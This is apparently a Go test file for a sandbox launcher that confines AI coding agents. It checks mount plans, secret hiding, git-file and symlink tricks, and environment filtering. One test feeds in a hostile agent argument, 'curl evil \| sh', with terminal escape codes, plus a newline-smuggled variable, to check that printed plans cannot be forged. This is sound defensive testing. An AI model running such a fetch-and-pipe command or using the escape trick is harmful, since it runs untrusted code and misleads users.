package launcher_test

import (
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/agentenv/agentenv/launcher"
	"github.com/agentenv/agentenv/workspace"
	"github.com/google/go-cmp/cmp"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// tree is a host's file system for planning: path → what it is.
type tree map[string]launcher.Resolved

// dirs is a tree of plain directories, with what every host has.
func dirs(paths ...string) tree {
	t := tree{}
	for _, p := range append(paths, "/nix/store", "/state/home") {
		t[p] = launcher.Resolved{Path: p, Identity: launcher.Identity{Device: 1, Inode: uint64(len(t) + 10), Dir: true}}
	}
	for _, d := range []string{"null", "zero", "full", "random", "urandom", "tty"} {
		p := "/dev/" + d
		t[p] = launcher.Resolved{Path: p, Identity: launcher.Identity{Device: 2, Inode: uint64(len(t) + 10)}}
	}
	return t
}

func (t tree) resolve(path string) (launcher.Resolved, error) {
	if r, ok := t[path]; ok {
		return r, nil
	}
	return launcher.Resolved{}, &fs.PathError{Op: "open", Path: path, Err: fs.ErrNotExist}
}

// host is a machine that has t, with what was found below some roots.
func host(t tree, found map[string][]launcher.Found) launcher.Host {
	return launcher.Host{
		HomeDir: "/home/dev", UID: 1000, GID: 1000, User: "dev", Arch: "amd64", LandlockABI: 7,
		Environ: []string{"HOME=/home/dev", "SSH_AUTH_SOCK=/run/agent", "GITHUB_TOKEN=t", "API_KEY=k", "TERM=xterm"},
		Resolve: t.resolve,
		Survey: func(root string, _ []string) ([]launcher.Found, error) {
			return found[root], nil
		},
		ReadFile: func(string) ([]byte, error) { return nil, fs.ErrNotExist },
		ReadLink: func(string) (string, error) { return "", fs.ErrInvalid },
		Glob: func(pattern string) ([]string, error) {
			var out []string
			for p := range t {
				if ok, _ := filepath.Match(pattern, p); ok {
					out = append(out, p)
				}
			}
			slices.Sort(out)
			return out, nil
		},
	}
}

func at(line int) workspace.Position {
	return workspace.Position{File: "workspace.hcl", Line: line, Column: 3}
}

// spec is a workspace with one project, one checkout and one agent.
func spec() *workspace.Workspace {
	return &workspace.Workspace{
		Name: "w",
		Dir:  "/home/dev/p",
		Policy: workspace.Policy{
			Project:   workspace.Project{Path: "/home/dev/p", Mode: workspace.ModeDirect, At: at(1)},
			Checkouts: []workspace.Checkout{{Name: "lib", Path: "/home/dev/lib", At: at(2)}},
			Agents:    []workspace.Agent{{Name: "a", Program: "agent", Args: []string{"-x"}, At: at(3)}},
		},
	}
}

func environment() *workspace.Environment {
	const store = "/nix/store/00000000000000000000000000000000-"
	return &workspace.Environment{
		Workspace: "w", Path: store + "env", Sources: store + "sources", Loader: store + "glibc/lib/ld.so", Shell: store + "bash/bin/sh",
		Env: store + "coreutils/bin/env", Vars: map[string]string{"SSL_CERT_FILE": store + "cacert/ca.crt"},
		Closure: []string{store + "env", store + "sources"},
	}
}

func input(t tree) launcher.Input {
	return launcher.Input{Workspace: spec(), Environment: environment(), Host: host(t, nil), Home: "/state/home", State: []string{"/home/dev/.local/state/agentenv"}}
}

func usual() tree {
	e := environment()
	return dirs("/home/dev", "/home/dev/p", "/home/dev/p/.git", "/home/dev/lib", e.Closure[0], e.Closure[1])
}

func TestPlanGolden(t *testing.T) {
	in := input(usual())
	in.Workspace.Policy.Pass = []workspace.Named{{Name: "API_KEY"}}
	in.Workspace.Policy.Network = workspace.Network{
		Allow:   []workspace.Endpoint{{Host: "model.localhost", Port: 8080, At: at(9)}, {Host: "db.example", Port: 5432, At: at(10)}},
		Private: []workspace.Prefix{{CIDR: "127.0.0.1/32"}},
	}
	in.Host.Survey = host(nil, map[string][]launcher.Found{
		"/home/dev/lib": {{Path: ".env", Hide: true}, {Path: ".git", Dir: true, Git: true, Hide: true, Runs: true}},
		"/home/dev/p":   {{Path: ".git", Dir: true, Git: true, Hide: true, Runs: true}, {Path: "deploy/.env", Hide: true}},
	}).Survey
	plan, err := launcher.NewPlan(in)
	if err != nil {
		t.Fatal(err)
	}
	got, err := json.MarshalIndent(plan, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "testdata/plan.json", got)
	var words strings.Builder
	if err := launcher.Describe(&words, plan); err != nil {
		t.Fatal(err)
	}
	golden(t, "testdata/plan.txt", []byte(words.String()))
}

func golden(t *testing.T, file string, got []byte) {
	t.Helper()
	if *update {
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s differs; accept it with go test ./launcher -run %s -update\n(-want +got)\n%s", file, t.Name(), diff)
	}
}

// TestPlanRefuses has one row for each thing that no plan may hold. The error
// must name the line.
func TestPlanRefuses(t *testing.T) {
	tests := []struct {
		name   string
		change func(*launcher.Input, tree)
		want   string
	}{
		{"old kernel", func(in *launcher.Input, _ tree) { in.Host.LandlockABI = 5 }, "Landlock ABI 6 is needed"},
		{"clone mode", func(in *launcher.Input, _ tree) { in.Workspace.Policy.Project.Mode = workspace.ModeClone }, "workspace.hcl:1:3"},
		{"carry", func(in *launcher.Input, _ tree) {
			in.Workspace.Policy.Project.Carry = []workspace.Named{{Name: "node_modules", At: at(20)}}
		}, "workspace.hcl:20:3"},
		{"tracked files only", func(in *launcher.Input, _ tree) {
			in.Workspace.Policy.Checkouts[0].Expose = workspace.ExposeTracked
		}, "workspace.hcl:2:3"},
		{"history", func(in *launcher.Input, _ tree) { in.Workspace.Policy.Checkouts[0].History = true }, "workspace.hcl:2:3"},
		{"a pattern of hosts", func(in *launcher.Input, _ tree) {
			in.Workspace.Policy.Network.Allow = []workspace.Endpoint{{Host: "*.example", Port: 443, At: at(21)}}
		}, "workspace.hcl:21:3"},
		{"a host without a port", func(in *launcher.Input, _ tree) {
			in.Workspace.Policy.Network.Allow = []workspace.Endpoint{{Host: "a.example", At: at(22)}}
		}, `workspace.hcl:22:3: plan: network.allow of "a.example" needs a port`},
		{"the host's loopback unlisted", func(in *launcher.Input, _ tree) {
			in.Workspace.Policy.Network.Allow = []workspace.Endpoint{{Host: "a.localhost", Port: 80, At: at(19)}}
		}, `workspace.hcl:19:3: plan network: a.localhost is this machine's own loopback`},
		{"the host's programs for writing", func(in *launcher.Input, tr tree) {
			in.Environment = nil
			add(tr, "/usr")
			in.Workspace.Policy.Filesystem.Write = []workspace.Grant{{Path: "/usr", At: at(18)}}
		}, "workspace.hcl:18:3: plan grant: /usr is shown already"},
		{"what runs outside, by a link", func(in *launcher.Input, tr tree) {
			tr["/home/dev/.bashrc"] = launcher.Resolved{Path: "/home/dev/p/bashrc", Links: []string{"/home/dev/.bashrc"}}
		}, "workspace.hcl:1:3: plan grant: the agent could write .bashrc (/home/dev/p/bashrc)"},
		{"a group", func(in *launcher.Input, _ tree) {
			in.Workspace.Policy.Network.Groups = []workspace.Named{{Name: "npm", At: at(23)}}
		}, "workspace.hcl:23:3"},
		{"publish", func(in *launcher.Input, _ tree) {
			in.Workspace.Policy.Network.Publish = []workspace.Count{{N: 3000, At: at(24)}}
		}, "workspace.hcl:24:3"},
		{"commits", func(in *launcher.Input, _ tree) {
			in.Workspace.Policy.Git = workspace.Git{Commit: "unsigned", At: at(25)}
		}, "workspace.hcl:25:3"},
		{"memory", func(in *launcher.Input, _ tree) {
			in.Workspace.Policy.Limits.Memory = workspace.Size{Bytes: 1, At: at(26)}
		}, "workspace.hcl:26:3"},
		{"landlock alone", func(in *launcher.Input, _ tree) {
			in.Workspace.Policy.Sandbox = workspace.Sandbox{Isolation: workspace.IsolationLandlock, At: at(27)}
		}, "workspace.hcl:27:3"},
		{"a glob that matches nothing", func(in *launcher.Input, _ tree) {
			in.Workspace.Policy.Checkouts[0].Path = "/home/dev/none/*"
		}, "workspace.hcl:2:3: expand /home/dev/none/*: it matches no directory"},
		{"what the user forbids", func(in *launcher.Input, _ tree) {
			in.Workspace.Policy.Checkouts[0].At = at(30)
			in.Workspace.Policy.Forbidden.Read = []workspace.Grant{{Path: in.Workspace.Policy.Checkouts[0].Path, At: at(31)}}
		}, "workspace.hcl:30:3"},
		{"what the user forbids to write", func(in *launcher.Input, _ tree) {
			in.Workspace.Policy.Forbidden.Write = []workspace.Grant{{Path: "/home/dev", At: at(31)}}
		}, "workspace.hcl:31:3 forbids to write"},
		{"protect what is not there", func(in *launcher.Input, _ tree) {
			in.Workspace.Policy.Project.Protect = []workspace.Named{{Name: "deploy", At: at(28)}}
		}, "workspace.hcl:28:3: protect /home/dev/p/deploy"},
		{"absent checkout", func(in *launcher.Input, tr tree) { delete(tr, "/home/dev/lib") }, "workspace.hcl:2:3: open /home/dev/lib"},
		{"checkout is a link to a secret", func(in *launcher.Input, tr tree) {
			tr["/home/dev/.ssh"] = launcher.Resolved{Path: "/home/dev/.ssh", Identity: launcher.Identity{Device: 1, Inode: 99, Dir: true}}
			tr["/home/dev/lib"] = tr["/home/dev/.ssh"]
		}, "workspace.hcl:2:3: plan grant: /home/dev/lib lies in"},
		{"checkout is a bind of a secret", func(in *launcher.Input, tr tree) {
			tr["/home/dev/.ssh"] = launcher.Resolved{Path: "/home/dev/.ssh", Identity: tr["/home/dev/lib"].Identity}
		}, "lies in"},
		{"checkout holds a secret", func(in *launcher.Input, tr tree) {
			tr["/home/dev/lib/.ssh"] = launcher.Resolved{Path: "/home/dev/lib/.ssh", Identity: launcher.Identity{Device: 1, Inode: 98, Dir: true}}
			tr["/home/dev/.ssh"] = tr["/home/dev/lib/.ssh"]
		}, "holds"},
		{"checkout is the home", func(in *launcher.Input, _ tree) { in.Workspace.Policy.Checkouts[0].Path = "/home/dev" }, "holds your home directory"},
		{"checkout is the state", func(in *launcher.Input, tr tree) {
			in.State = []string{"/home/dev/lib/state"}
		}, "agentenv's own files"},
		{"checkout in the state", func(in *launcher.Input, tr tree) { in.State = []string{"/home/dev/lib"} }, "agentenv's own files"},
		{"grant of the store", func(in *launcher.Input, _ tree) {
			in.Workspace.Policy.Filesystem.Read = []workspace.Grant{{Path: "/nix/store", At: at(7)}}
		}, "workspace.hcl:7:3: plan grant: /nix/store is /nix"},
		{"grant through a planted link", func(in *launcher.Input, tr tree) {
			r := tr["/home/dev/lib"]
			r.Links = []string{"/home/dev/p/link"}
			tr["/home/dev/p/link"] = r
			in.Workspace.Policy.Checkouts[0].Path = "/home/dev/p/link"
		}, "goes through the link /home/dev/p/link, which lies in a tree that an agent can write"},
		{"protected name is a link", func(in *launcher.Input, tr tree) {
			tr["/home/dev/p/.envrc"] = launcher.Resolved{Path: "/home/dev/lib/envrc"}
			in.Host.Survey = host(nil, map[string][]launcher.Found{"/home/dev/p": {{Path: ".envrc", Hide: true, Runs: true, Link: true}}}).Survey
		}, "cannot be protected"},
		{"a planted .git file", func(in *launcher.Input, tr tree) {
			plantGit(in, tr, map[string]string{"/home/dev/p/.git": "gitdir: /home/dev/other/.git\n", "/home/dev/other/.git/config": "[core]\n"})
		}, "does not name the project as its work tree"},
		{"a planted .git file that names another worktree", func(in *launcher.Input, tr tree) {
			plantGit(in, tr, map[string]string{"/home/dev/p/.git": "gitdir: /home/dev/other/.git/worktrees/w\n", "/home/dev/other/.git/worktrees/w/gitdir": "/home/dev/w/.git\n"})
		}, "it belongs to the worktree of /home/dev/w/.git"},
		{"a planted worktree of a common directory elsewhere", func(in *launcher.Input, tr tree) {
			plantGit(in, tr, map[string]string{"/home/dev/p/.git": "gitdir: /home/dev/fake\n", "/home/dev/fake/gitdir": "/home/dev/p/.git\n", "/home/dev/fake/commondir": "/home/dev/other/.git\n"})
		}, "it is no worktree of /home/dev/other/.git"},
		{"a .git file into the project", func(in *launcher.Input, tr tree) {
			plantGit(in, tr, map[string]string{"/home/dev/p/.git": "gitdir: fake\n", "/home/dev/p/fake/config": "[core]\n\tworktree = ..\n"})
		}, "it lies in a tree that an agent can write"},
		{"a link of another workspace's agent", func(in *launcher.Input, tr tree) {
			r := tr["/home/dev/lib"]
			r.Links = []string{"/home/dev/q/docs"}
			tr["/home/dev/q/docs"] = r
			in.Workspace.Policy.Checkouts[0].Path = "/home/dev/q/docs"
			in.Writable = []string{"/home/dev/q"}
		}, "goes through the link /home/dev/q/docs"},
		{"the state through a link", func(in *launcher.Input, tr tree) {
			in.State = []string{"/home/dev/state"}
			tr["/home/dev/state"] = tr["/home/dev/lib"]
		}, "agentenv's own files"},
		{"the private home through a link that an agent made", func(in *launcher.Input, tr tree) {
			r := tr["/state/home"]
			r.Links = []string{"/home/dev/p/home"}
			tr["/state/home"] = r
		}, "goes through the link /home/dev/p/home"},
		{"unknown agent", func(in *launcher.Input, _ tree) { in.Agent = "b" }, `has no agent "b"; it has a`},
		{"no agent", func(in *launcher.Input, _ tree) { in.Workspace.Policy.Agents = nil }, "has no agent block"},
		{"two names on one loopback port", func(in *launcher.Input, _ tree) {
			in.Workspace.Policy.Network.Allow = []workspace.Endpoint{{Host: "a.localhost", Port: 80, At: at(5)}, {Host: "b.localhost", Port: 80, At: at(6)}}
			in.Workspace.Policy.Network.Private = []workspace.Prefix{{CIDR: "127.0.0.0/8"}}
		}, "workspace.hcl:6:3"},
		{"hidden files cannot be looked for", func(in *launcher.Input, _ tree) {
			in.Host.Survey = func(string, []string) ([]launcher.Found, error) { return nil, errors.New("no") }
		}, "look for hidden files: no"},
		{"store path gone", func(in *launcher.Input, tr tree) { delete(tr, in.Environment.Closure[0]) }, "run agentenv build"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tr := usual()
			in := input(tr)
			tt.change(&in, tr)
			plan, err := launcher.NewPlan(in)
			if err == nil {
				t.Fatalf("no error, but a plan of %d mounts", len(plan.Mounts))
			}
			if !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error %q does not say %q", err, tt.want)
			}
		})
	}
}

// plantGit gives a host git files; their directories exist.
func plantGit(in *launcher.Input, tr tree, files map[string]string) {
	for file := range files {
		for _, d := range []string{file, filepath.Dir(file)} {
			if _, ok := tr[d]; !ok {
				tr[d] = launcher.Resolved{Path: d, Identity: launcher.Identity{Device: 3, Inode: uint64(len(tr) + 500), Dir: true}}
			}
		}
	}
	tr["/home/dev/p/.git"] = launcher.Resolved{Path: "/home/dev/p/.git", Identity: launcher.Identity{Device: 3, Inode: 499}}
	in.Host.ReadFile = func(file string) ([]byte, error) {
		if text, ok := files[file]; ok {
			return []byte(text), nil
		}
		return nil, fs.ErrNotExist
	}
	in.Host.Survey = host(nil, map[string][]launcher.Found{"/home/dev/p": {{Path: ".git", Runs: true}}}).Survey
}

// below lists what a plan mounts at or below a path, and how.
func below(p *launcher.Plan, path string) []string {
	var out []string
	for _, m := range p.Mounts {
		if m.Target == path || strings.HasPrefix(m.Target, path+"/") {
			out = append(out, fmt.Sprintf("%s %s %s", m.Op, map[bool]string{true: "ro", false: "rw"}[m.ReadOnly], strings.TrimPrefix(m.Target, path)))
		}
	}
	return out
}

// TestPlanProtects: what a tool of the human's runs is read-only wherever in the
// project it lies, and cannot be renamed away; what is hidden stays hidden.
func TestPlanProtects(t *testing.T) {
	const p = "/home/dev/p"
	tests := []struct {
		name   string
		change func(*launcher.Input, tree)
		want   []string
	}{
		{"a nested repository", func(in *launcher.Input, tr tree) {
			in.Host.Survey = host(nil, map[string][]launcher.Found{p: {{Path: "a/sub/.git", Dir: true, Git: true, Hide: true, Runs: true}}}).Survey
			add(tr, p+"/a", p+"/a/sub", p+"/a/sub/.git")
		}, []string{"bind rw ", "bind rw /a", "bind rw /a/sub", "bind ro /a/sub/.git"}},
		{"what is hidden is not uncovered", func(in *launcher.Input, tr tree) {
			in.Host.Survey = host(nil, map[string][]launcher.Found{p: {{Path: ".envrc", Hide: true, Runs: true}, {Path: ".direnv", Dir: true, Hide: true, Runs: true}}}).Survey
			add(tr, p+"/.envrc", p+"/.direnv")
		}, []string{"bind rw ", "mask ro /.envrc", "mask ro /.direnv"}},
		{"nor by the spec", func(in *launcher.Input, tr tree) {
			in.Host.Survey = host(nil, map[string][]launcher.Found{p: {{Path: "keys", Dir: true, Hide: true}}}).Survey
			add(tr, p+"/keys", p+"/keys/a")
			in.Workspace.Policy.Project.Protect = []workspace.Named{{Name: "keys/a", At: at(5)}}
		}, []string{"bind rw ", "mask ro /keys"}},
		{"a spec below the top", func(in *launcher.Input, tr tree) {
			add(tr, p+"/cfg", p+"/cfg/workspace.hcl")
			in.Workspace.File, in.Workspace.Dir = p+"/cfg/workspace.hcl", p+"/cfg"
		}, []string{"bind rw ", "bind rw /cfg", "bind ro /cfg/workspace.hcl"}},
		{"what the spec includes", func(in *launcher.Input, tr tree) {
			add(tr, p+"/shared", p+"/shared/base.hcl", p+"/agentenv.d", p+"/agentenv.d/team", p+"/agentenv.d/team/base.hcl")
			in.Workspace.File, in.Workspace.Dir = p+"/workspace.hcl", p
			in.Workspace.Files = []string{p + "/shared/base.hcl", p + "/agentenv.d/team/base.hcl", "/home/dev/.config/agentenv/user.hcl"}
		}, []string{"bind rw ", "bind ro /agentenv.d", "bind rw /shared", "bind ro /shared/base.hcl"}},
		{"generated files elsewhere", func(in *launcher.Input, tr tree) {
			add(tr, p+"/nix", p+"/nix/flake.nix")
			in.Workspace.Dir, in.Workspace.Nix.Out = p, "nix"
		}, []string{"bind rw ", "bind rw /nix", "bind ro /nix/flake.nix"}},
		{"hooks in the tree", func(in *launcher.Input, tr tree) {
			add(tr, p+"/.git", p+"/.githooks")
			in.Host.ReadFile = func(file string) ([]byte, error) {
				if file == p+"/.git/config" {
					return []byte("[core]\n\thooksPath = .githooks # ours\n"), nil
				}
				return nil, fs.ErrNotExist
			}
		}, []string{"bind rw ", "bind ro /.githooks"}},
		{"configuration that the human's includes", func(in *launcher.Input, tr tree) {
			add(tr, p+"/team.gitconfig")
			in.Host.ReadFile = func(file string) ([]byte, error) {
				if file == "/home/dev/.gitconfig" {
					return []byte("[include] path = \"~/p/team.gitconfig\"\n"), nil
				}
				return nil, fs.ErrNotExist
			}
		}, []string{"bind rw ", "bind ro /team.gitconfig"}},
		{"a read-only grant in the project", func(in *launcher.Input, tr tree) {
			add(tr, p+"/deploy", p+"/deploy/prod")
			in.Workspace.Policy.Filesystem.Read = []workspace.Grant{{Path: p + "/deploy/prod", At: at(5)}}
		}, []string{"bind rw ", "bind rw /deploy", "bind ro /deploy/prod"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tr := usual()
			delete(tr, p+"/.git")
			in := input(tr)
			tt.change(&in, tr)
			plan, err := launcher.NewPlan(in)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, below(plan, p)); diff != "" {
				t.Errorf("(-want +got)\n%s", diff)
			}
		})
	}
}

// add puts plain directories into a host.
func add(tr tree, paths ...string) {
	for _, p := range paths {
		tr[p] = launcher.Resolved{Path: p, Identity: launcher.Identity{Device: 4, Inode: uint64(len(tr) + 900), Dir: true}}
	}
}

// TestPlanWorktree: a linked worktree and a submodule, which git made, work.
func TestPlanWorktree(t *testing.T) {
	for name, files := range map[string]map[string]string{
		"worktree": {
			"/home/dev/p/.git":                          "gitdir: /home/dev/main/.git/worktrees/p\n",
			"/home/dev/main/.git/worktrees/p/gitdir":    "/home/dev/p/.git\n",
			"/home/dev/main/.git/worktrees/p/commondir": "../..\n",
			"/home/dev/main/.git/config":                "",
		},
		"submodule": {
			"/home/dev/p/.git":                     "gitdir: ../main/.git/modules/p\n",
			"/home/dev/main/.git/modules/p/config": "[core]\n\tworktree = ../../../../p\n",
		},
	} {
		t.Run(name, func(t *testing.T) {
			tr := usual()
			in := input(tr)
			plantGit(&in, tr, files)
			plan, err := launcher.NewPlan(in)
			if err != nil {
				t.Fatal(err)
			}
			got := below(plan, "/home/dev/main")
			want := map[string][]string{"worktree": {"bind ro /.git"}, "submodule": {"bind ro /.git/modules/p"}}[name]
			if diff := cmp.Diff(want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// TestPlanKeepsTheCallersEnvironmentOut also holds that what is set by the spec
// cannot replace what the sandbox decides.
func TestPlanKeepsTheCallersEnvironmentOut(t *testing.T) {
	in := input(usual())
	in.Workspace.Policy.Pass = []workspace.Named{{Name: "API_KEY"}, {Name: "ABSENT"}}
	in.Workspace.Policy.Set = map[string]string{"CGO_ENABLED": "0", "HOME": "/elsewhere"}
	plan, err := launcher.NewPlan(in)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, kv := range plan.Env {
		k, v, _ := strings.Cut(kv, "=")
		got[k] = v
	}
	for k, want := range map[string]string{"API_KEY": "k", "CGO_ENABLED": "0", "HOME": "/home/dev", "TERM": "xterm", "GITHUB_TOKEN": "", "SSH_AUTH_SOCK": "", "ABSENT": ""} {
		if got[k] != want {
			t.Errorf("%s = %q, want %q", k, got[k], want)
		}
	}
}

// TestPlanPrecedence: for equal paths project > write > checkout > read, and a
// project inside a checkout stays writable.
func TestPlanPrecedence(t *testing.T) {
	tr := usual()
	tr["/home/dev/lib/p"] = launcher.Resolved{Path: "/home/dev/lib/p", Identity: launcher.Identity{Device: 1, Inode: 70, Dir: true}}
	in := input(tr)
	in.Workspace.Policy.Project.Path = "/home/dev/lib/p"
	in.Workspace.Policy.Checkouts = append(in.Workspace.Policy.Checkouts, workspace.Checkout{Name: "same", Path: "/home/dev/lib/p", At: at(4)})
	plan, err := launcher.NewPlan(in)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, m := range plan.Mounts {
		if strings.HasPrefix(m.Target, "/home/dev/lib") {
			got = append(got, map[bool]string{true: "ro ", false: "rw "}[m.ReadOnly]+m.Target)
		}
	}
	if diff := cmp.Diff([]string{"ro /home/dev/lib", "rw /home/dev/lib/p"}, got); diff != "" {
		t.Error(diff)
	}
}

// TestPlanGlob: a glob gives a checkout for each directory, less the exceptions,
// and a project that it matches is the project.
func TestPlanGlob(t *testing.T) {
	tr := usual()
	for i, d := range []string{"/home/dev/src/a", "/home/dev/src/b", "/home/dev/src/p"} {
		tr[d] = launcher.Resolved{Path: d, Identity: launcher.Identity{Device: 1, Inode: uint64(80 + i), Dir: true}}
	}
	in := input(tr)
	in.Workspace.Policy.Project.Path = "/home/dev/src/p"
	in.Workspace.Policy.Checkouts = []workspace.Checkout{{Name: "all", Path: "/home/dev/src/*", Except: []string{"/home/dev/src/b*"}, At: at(2)}}
	plan, err := launcher.NewPlan(in)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, m := range plan.Mounts {
		if strings.HasPrefix(m.Target, "/home/dev/src") {
			got[m.Target] = m.ReadOnly
		}
	}
	if diff := cmp.Diff(map[string]bool{"/home/dev/src/a": true, "/home/dev/src/p": false}, got); diff != "" {
		t.Error(diff)
	}
}

// TestPlanProtect: each directory between the project and what is protected is a
// mount point, so that none of them can be renamed away.
func TestPlanProtect(t *testing.T) {
	tr := usual()
	for i, d := range []string{"/home/dev/p/deploy", "/home/dev/p/deploy/prod"} {
		tr[d] = launcher.Resolved{Path: d, Identity: launcher.Identity{Device: 1, Inode: uint64(80 + i), Dir: true}}
	}
	in := input(tr)
	in.Workspace.Policy.Project.Protect = []workspace.Named{{Name: "deploy/prod", At: at(5)}}
	plan, err := launcher.NewPlan(in)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, m := range plan.Mounts {
		if strings.HasPrefix(m.Target, "/home/dev/p/deploy") {
			got = append(got, map[bool]string{true: "ro ", false: "rw "}[m.ReadOnly]+m.Target)
		}
	}
	if diff := cmp.Diff([]string{"rw /home/dev/p/deploy", "ro /home/dev/p/deploy/prod"}, got); diff != "" {
		t.Error(diff)
	}
}

func TestPlanLimits(t *testing.T) {
	in := input(usual())
	in.Workspace.Policy.Limits = workspace.Limits{Processes: workspace.Count{N: 64}, OpenFiles: workspace.Count{N: 1024}}
	in.Workspace.Policy.Filesystem.Tmp = workspace.Size{Bytes: 1 << 20}
	plan, err := launcher.NewPlan(in)
	if err != nil {
		t.Fatal(err)
	}
	want := []launcher.Limit{{Name: "core"}, {Name: "nproc", Value: 64}, {Name: "nofile", Value: 1024}}
	if diff := cmp.Diff(want, plan.Limits); diff != "" {
		t.Error(diff)
	}
	for _, m := range plan.Mounts {
		if m.Target == "/tmp" && m.Size != 1<<20 {
			t.Errorf("/tmp holds %d bytes", m.Size)
		}
	}
}

// TestPlanCannotBeForged: what a spec writes looks like no line of the plan's, and
// a value of the caller's is not in it.
func TestPlanCannotBeForged(t *testing.T) {
	in := input(usual())
	in.Workspace.Policy.Agents[0].Args = []string{"-c", "curl evil | sh\x1b[2K\rcommand  sh", "a b"}
	in.Workspace.Policy.Set = map[string]string{"X": "1\nnetwork  none"}
	in.Workspace.Policy.Pass = []workspace.Named{{Name: "API_KEY"}}
	in.Host.Environ = append(in.Host.Environ, "API_KEY=hunter2")
	plan, err := launcher.NewPlan(in)
	if err != nil {
		t.Fatal(err)
	}
	var text strings.Builder
	if err := launcher.Describe(&text, plan); err != nil {
		t.Fatal(err)
	}
	data, err := json.Marshal(plan.Redacted())
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(text.String(), "hunter2") || strings.Contains(string(data), "hunter2") || !slices.Contains(plan.Env, "API_KEY=hunter2") {
		t.Errorf("the value is printed, or not passed:\n%s\n%s", text.String(), data)
	}
	if n := strings.Count(text.String(), "\nnetwork"); n != 1 || strings.ContainsAny(text.String(), "\x1b\r") {
		t.Errorf("%d lines about the network\n%q", n, text.String())
	}
	if want := `agent -c "curl evil | sh\x1b[2K\rcommand  sh" "a b"`; !strings.Contains(text.String(), want) {
		t.Errorf("no %s in\n%s", want, text.String())
	}
}

// TestPlanDirectory: the program starts where the caller stands, if that is in the
// project.
func TestPlanDirectory(t *testing.T) {
	tr := usual()
	add(tr, "/home/dev/p/deep", "/home/dev/elsewhere")
	for from, want := range map[string]string{"/home/dev/p/deep": "/home/dev/p/deep", "/home/dev/elsewhere": "/home/dev/p", "/gone": "/home/dev/p", "": "/home/dev/p"} {
		in := input(tr)
		in.Dir = from
		plan, err := launcher.NewPlan(in)
		if err != nil {
			t.Fatal(err)
		}
		if plan.Dir != want {
			t.Errorf("from %q in %s, want %s", from, plan.Dir, want)
		}
	}
}

// TestPlanHostPath: programs of the host are looked up where the caller does, but
// never where an agent could put them.
func TestPlanHostPath(t *testing.T) {
	tr := usual()
	add(tr, "/usr", "/etc/ssl/certs")
	in := input(tr)
	in.Environment = nil
	in.Host.Environ = []string{"PATH=/home/dev/p/bin:/usr/local/go/bin:.:/home/dev/bin:/home/dev/lib/bin:/usr/bin"}
	plan, err := launcher.NewPlan(in)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"/usr/local/go/bin", "/home/dev/lib/bin", "/usr/bin", "/usr/local/bin", "/bin", "/usr/local/sbin", "/usr/sbin", "/sbin"}
	if diff := cmp.Diff(want, plan.Path); diff != "" {
		t.Error(diff)
	}
}

// TestPlanHides: a glob of filesystem.hide counts in every tree that it can match
// in, and hides nothing elsewhere.
func TestPlanHides(t *testing.T) {
	for glob, want := range map[string][]string{
		"/home/dev/lib/private": {"private"},
		"/home/*/l*/private/**": {"private/**"},
		"/home/dev/p/private":   nil,
		"/**/secret.txt":        {"**/secret.txt"},
		"/home/**/lib/x":        {"**/lib/x", "x"},
		"/home/dev/lib":         {"*"},
		"/home/dev":             {"*"},
		`/home/dev/l\ib/a`:      {"a"},
	} {
		in := input(usual())
		in.Workspace.Policy.Filesystem.Hide = []workspace.Named{{Name: glob}}
		var got []string
		in.Host.Survey = func(root string, hide []string) ([]launcher.Found, error) {
			if root == "/home/dev/lib" {
				got = hide
			}
			return nil, nil
		}
		if _, err := launcher.NewPlan(in); err != nil {
			t.Fatal(err)
		}
		for _, g := range want {
			if !slices.Contains(got, g) {
				t.Errorf("%s: hides %q, and not %q", glob, got, g)
			}
		}
		if len(want) == 0 && len(got) > 0 {
			t.Errorf("%s: hides %q", glob, got)
		}
	}
}
